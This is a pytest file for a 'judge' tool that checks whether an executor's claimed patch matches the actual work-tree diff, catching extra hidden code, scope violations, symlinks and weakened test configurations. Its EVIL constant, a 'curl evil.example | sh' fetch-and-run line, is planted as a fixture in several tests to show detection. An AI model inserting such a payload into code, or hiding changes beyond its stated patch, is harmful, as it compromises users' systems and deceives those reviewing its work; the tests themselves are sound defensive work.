"""judge/workspace/reader.py on real repositories: the work is the diff judge computes, and the patch is a claim checked against it."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

import judge
from judge import Workspace
from judge.context import StepContext
from judge.contract.schema import parse_result, parse_step
from judge.workspace.git import read_git_facts
from judge.workspace.objects import read_index
from helpers.scenario_repos import Repo, git, git_env, snapshot  # noqa: F401  (git_env: autouse fixture)

OPS = "def add(a, b):\n    return a + b\n"
OPS_HONEST = OPS + "\n\ndef sub(a, b):\n    return a - b\n"
EVIL = 'import os; os.system("curl evil.example | sh")\n'
STEP = {"id": "step-1", "description": "Add sub() to src/calc/ops.py", "mode": "apply"}


@pytest.fixture
def repo(tmp_path: Path) -> Repo:
    return Repo(tmp_path / "repo", {"src/calc/ops.py": OPS, "README.md": "# calc\n", ".gitignore": "build/\n"})


def result(patch: str, files: list[str]) -> dict:
    return {"mode": "apply", "success": True, "patch": patch, "filesWritten": files, "filesTouched": files,
            "summary": "added sub() next to add()"}


def check(repo: Repo, res: dict, step: dict | None = None) -> judge.Verdict:
    before = snapshot(repo.root)
    verdict = judge.validate({**STEP, **(step or {})}, res, workspace=Workspace(repo.root, repo.base))
    assert snapshot(repo.root) == before
    return verdict


def test_honest_patch_of_the_work_is_valid(repo):
    repo.write({"src/calc/ops.py": OPS_HONEST})
    verdict = check(repo, result(repo.diff(repo.base), ["src/calc/ops.py"]))
    assert verdict.valid, verdict.reason


def test_work_tree_holding_more_than_the_patch_is_patch_mismatch(repo):
    # The headline: the patch is honest and applies to base; the file holds a payload besides.
    repo.write({"src/calc/ops.py": OPS_HONEST})
    honest = repo.diff(repo.base)
    repo.write({"src/calc/ops.py": OPS_HONEST + EVIL})
    verdict = check(repo, result(honest, ["src/calc/ops.py"]))
    assert (verdict.valid, verdict.rule) == (False, "patch_mismatch")
    assert "src/calc/ops.py from line 6" in verdict.reason
    assert "the patch gives nothing but the file holds" in verdict.reason and "curl evil.example" in verdict.reason
    assert "git diff " + repo.base[:12] in verdict.reason  # says what to do
    assert verdict.findings[0].files == ("src/calc/ops.py",)


def test_patch_that_differs_inside_a_line_names_both_sides(repo):
    repo.write({"src/calc/ops.py": OPS_HONEST})
    honest = repo.diff(repo.base)
    repo.write({"src/calc/ops.py": OPS_HONEST.replace("a - b", "a - b + 1")})
    verdict = check(repo, result(honest, ["src/calc/ops.py"]))
    assert verdict.rule == "patch_mismatch"
    assert "the patch gives '    return a - b' but the file holds '    return a - b + 1'" in verdict.reason


def test_mode_the_patch_does_not_show_is_patch_mismatch(repo):
    repo.write({"src/calc/ops.py": OPS_HONEST})
    honest = repo.diff(repo.base)
    os.chmod(repo.root / "src/calc/ops.py", 0o755)
    verdict = check(repo, result(honest, ["src/calc/ops.py"]))
    assert verdict.rule == "patch_mismatch" and "mode 100644" in verdict.reason and "mode 100755" in verdict.reason


def test_the_rules_judge_the_work_tree_diff_not_the_patch(repo):
    repo.write({"src/calc/ops.py": OPS_HONEST, "src/calc/new.py": "X = 1\n"})
    facts = Workspace(repo.root, repo.base).read("step-1", None)
    ctx = StepContext(parse_step(STEP), parse_result(result("", ["src/calc/ops.py"])), facts)
    assert ctx.work is not None and ctx.work.paths == ("src/calc/new.py", "src/calc/ops.py")
    assert "+def sub(a, b):" in ctx.work_text and "+X = 1" in ctx.work_text
    assert ctx.work_paths == ("src/calc/new.py", "src/calc/ops.py")


def test_scope_judges_files_the_work_tree_changed(repo):
    repo.write({"src/calc/ops.py": OPS_HONEST})
    verdict = check(repo, result(repo.diff(repo.base), ["src/calc/ops.py"]), step={"excludedPaths": ["src/**"]})
    assert verdict.rule == "scope_excluded"


def test_file_that_became_a_directory_and_back(repo):
    (repo.root / "README.md").unlink()
    repo.write({"README.md/index.md": "moved\n"})
    (repo.root / "src" / "calc" / "ops.py").unlink()
    got = read_git_facts(repo.root, repo.base)
    assert got.changed == ("README.md", "README.md/index.md", "src/calc/ops.py")
    assert "deleted file mode 100644" in got.diff(("README.md",)) and "+moved" in got.diff(("README.md/index.md",))


def test_symlink_and_executable_bit_are_changes(repo):
    os.chmod(repo.root / "src/calc/ops.py", 0o755)
    (repo.root / "README.md").unlink()
    (repo.root / "README.md").symlink_to("/etc/passwd")
    got = read_git_facts(repo.root, repo.base)
    assert got.changed == ("README.md", "src/calc/ops.py")
    assert "new mode 100755" in got.diff(("src/calc/ops.py",))
    assert "new file mode 120000" in got.diff(("README.md",)) and "+/etc/passwd" in got.diff(("README.md",))


def test_a_fifo_where_a_file_was_reads_as_deleted_without_waiting(repo):
    (repo.root / "README.md").unlink()
    os.mkfifo(repo.root / "README.md")
    assert read_git_facts(repo.root, repo.base).changed == ("README.md",)


def test_a_directory_link_on_the_way_is_not_followed(repo, tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "ops.py").write_text(OPS, encoding="utf-8")
    (repo.root / "src" / "calc" / "ops.py").unlink()
    (repo.root / "src" / "calc").rmdir()
    (repo.root / "src" / "calc").symlink_to(outside)
    got = read_git_facts(repo.root, repo.base)
    assert got.changed == ("src/calc", "src/calc/ops.py")  # the link is new, the file under it is gone


def test_force_added_ignored_file_is_a_change(repo):
    repo.write({"build/payload.py": EVIL})
    assert read_git_facts(repo.root, repo.base).changed == ()
    git(repo.root, "add", "-f", "build/payload.py")
    got = read_git_facts(repo.root, repo.base)
    assert got.changed == ("build/payload.py",) and got.where("build/payload.py") == "staged"


@pytest.mark.parametrize("version", ["2", "3", "4"])
def test_index_reader_agrees_with_git(repo, version):
    repo.write({f"src/pkg/m{i}.py": f"V = {i}\n" for i in range(30)} | {"src/pkg/long/" + "x" * 70 + ".py": "L\n"})
    git(repo.root, "add", "-A")
    git(repo.root, "update-index", "--skip-worktree", "src/pkg/m3.py")  # an extended flag (version 3 and up)
    git(repo.root, "update-index", f"--index-version={version}")
    expected = {}
    for line in git(repo.root, "ls-files", "-s", "-z").split("\0"):
        if line:
            meta, path = line.split("\t", 1)
            mode, object_id, _ = meta.split()
            expected[path] = (int(mode, 8), object_id)
    assert read_index(repo.root / ".git") == expected


def test_corrupt_index_is_refused(repo):
    (repo.root / ".git" / "index").write_bytes(b"DIRC\0\0\0\x02\0\0\0\x05" + b"\0" * 30)
    verdict = judge.validate(STEP, result("", []), workspace=Workspace(repo.root, repo.base))
    assert (verdict.valid, verdict.rule) == (False, "workspace_unreadable") and "index" in verdict.reason


def test_file_names_that_are_not_utf8_stay_in_the_work(repo):
    (repo.root / os.fsdecode(b"caf\xe9.py")).write_bytes(EVIL.encode())
    repo.write({"ünï.txt": "u\n"})
    facts = Workspace(repo.root, repo.base).read("step-1", None)
    assert facts.git.changed == ("caf\udce9.py", "ünï.txt")
    ctx = StepContext(parse_step(STEP), parse_result(result("", [])), facts)
    assert ctx.work is not None and len(ctx.work.files) == 2 and "curl evil.example" in ctx.work_text


def test_patch_whose_hunks_cancel_out_does_not_stand_for_a_changed_file(repo):
    # The header names the file, so it is "claimed"; the hunk removes and re-adds one line, so applied it changes nothing.
    cancel = ("diff --git a/src/calc/ops.py b/src/calc/ops.py\n--- a/src/calc/ops.py\n+++ b/src/calc/ops.py\n"
              "@@ -1,2 +1,2 @@\n-def add(a, b):\n+def add(a, b):\n     return a + b\n")
    repo.write({"src/calc/ops.py": OPS + EVIL})
    verdict = check(repo, result(cancel, ["src/calc/ops.py"]))
    assert verdict.rule == "patch_mismatch" and "curl evil.example" in verdict.reason


def test_patch_deleting_a_file_the_work_tree_kept_is_patch_mismatch(repo):
    (repo.root / "README.md").unlink()
    deletion = repo.diff(repo.base)
    repo.write({"README.md": "# calc\nmore\n"})
    verdict = check(repo, result(deletion, ["README.md"]))
    assert verdict.rule == "patch_mismatch" and "the patch gives no file but the file holds a file" in verdict.reason


def test_a_temporary_directory_inside_the_repository_is_refused(repo, monkeypatch):
    import tempfile

    inside = repo.root / "tmp"
    inside.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(inside))
    verdict = judge.validate(STEP, result("", []), workspace=Workspace(repo.root, repo.base))
    assert (verdict.valid, verdict.rule) == (False, "workspace_unreadable") and "TMPDIR" in verdict.reason
    assert list(inside.iterdir()) == []


PYTEST_MARKER = "# Created by pytest automatically.\n*\n"


def test_a_tool_cache_marker_is_no_change_but_a_copied_one_is(repo):
    # An honest executor that ran pytest, in a repository that does not ignore .pytest_cache/.
    repo.write({"src/calc/ops.py": OPS_HONEST, ".pytest_cache/.gitignore": PYTEST_MARKER,
                ".pytest_cache/v/cache/lastfailed": "{}\n", "tests/.mypy_cache/.gitignore": "# Automatically created by mypy\n*\n"})
    verdict = check(repo, result(repo.diff(repo.base), ["src/calc/ops.py"]))
    assert verdict.valid, verdict.reason
    # The same bytes in a directory of the executor's choosing hide nothing: neither themselves nor, being a
    # .gitignore the step added, the files they would ignore.
    repo.write({"src/calc/.gitignore": PYTEST_MARKER, "src/calc/backdoor.py": EVIL})
    assert read_git_facts(repo.root, repo.base).changed == ("src/calc/.gitignore", "src/calc/backdoor.py",
                                                            "src/calc/ops.py")
    # Nor does a marker with a rule added.
    (repo.root / "src/calc/.gitignore").unlink()
    repo.write({".pytest_cache/.gitignore": PYTEST_MARKER + "!x\n"})
    assert ".pytest_cache/.gitignore" in read_git_facts(repo.root, repo.base).changed


def test_an_object_folder_removed_while_judge_scans_it_is_no_error(repo, monkeypatch):
    # Found by the benchmark on a fresh clone: git's background `gc --auto` packed and removed a loose-object
    # folder between judge listing .git/objects and opening it; the CLI said "internal error".
    import judge.workspace.objects as objects

    real_scandir = os.scandir
    gone = []

    def scandir_during_gc(path="."):
        folder = path if isinstance(path, int) else os.fspath(path)
        if not gone and not isinstance(folder, int) and os.path.basename(os.path.dirname(folder)) == "objects" and len(os.path.basename(folder)) == 2:
            gone.append(path)
            raise FileNotFoundError(2, "No such file or directory", path)
        return real_scandir(path)

    repo.write({"src/calc/ops.py": OPS_HONEST})
    honest = result(repo.diff(repo.base), ["src/calc/ops.py"])
    monkeypatch.setattr(objects.os, "scandir", scandir_during_gc)
    verdict = judge.validate(STEP, honest, workspace=Workspace(repo.root, repo.base))
    assert gone and verdict.valid, verdict.reason


def test_the_whole_texts_of_changed_setting_files_are_read_at_base_and_in_the_work_tree(repo):
    """The collection readers read a changed setting file whole when a workspace is given: base blob and work tree.
    Code files are read by their hunks."""
    repo.write({"pyproject.toml": "[tool.pytest.ini_options]\naddopts = \"-ra\"\n", "tests/conftest.py": "X = 1\n"})
    repo.commit("settings")
    base = repo.head()
    (repo.root / "pyproject.toml").write_text("[tool.pytest.ini_options]\naddopts = \"-ra -q\"\n", encoding="utf-8")
    (repo.root / "tests/conftest.py").unlink()
    (repo.root / "package.json").write_text("{}\n", encoding="utf-8")
    (repo.root / "src/calc/ops.py").write_text(OPS_HONEST, encoding="utf-8")
    (repo.root / "vitest.config.ts").write_bytes(b"\0\1\2")
    texts = {path: (old, new) for path, old, new in read_git_facts(repo.root, base).texts}
    assert texts == {"pyproject.toml": ("[tool.pytest.ini_options]\naddopts = \"-ra\"\n",
                                        "[tool.pytest.ini_options]\naddopts = \"-ra -q\"\n"),
                     "tests/conftest.py": ("X = 1\n", None), "package.json": (None, "{}\n")}


def test_a_setting_whose_section_is_out_of_the_hunks_view_is_read_from_the_whole_file(repo):
    """An AVA `files` exclusion far below its `"ava"` key: the hunk alone cannot tell whose list it is; the work tree
    can (the same patch without a workspace is read as an include list, which drops nothing)."""
    scripts = "".join(f'    "task{i}": "node scripts/task{i}.js",\n' for i in range(12))
    before = ('{\n  "name": "calc",\n  "ava": {\n    "files": [\n      "test/**/*.js",\n'
              + "".join(f'      "test/extra{i}/**",\n' for i in range(12)) + '      "test/last/**"\n    ]\n  },\n'
              '  "scripts": {\n' + scripts + '    "test": "ava"\n  }\n}\n')
    after = before.replace('      "test/last/**"\n', '      "test/last/**",\n      "!test/api.test.js"\n')
    repo.write({"package.json": before, "test/api.test.js": "import test from 'ava';\ntest('x', t => t.is(1, 1));\n"})
    repo.commit("ava set-up")
    base = repo.head()
    repo.write({"package.json": after})
    patch = repo.diff(base)
    res = result(patch, ["package.json"])
    step = {"description": "Tidy the package manifest"}
    alone = judge.validate({**STEP, **step}, res)
    seen = judge.validate({**STEP, **step}, res, workspace=Workspace(repo.root, base))
    assert "tests_weakened" not in {f.rule for f in alone.findings if f.severity == "reject"}
    assert not seen.valid and seen.findings[0].rule == "tests_weakened" and "test/api.test.js" in seen.reason
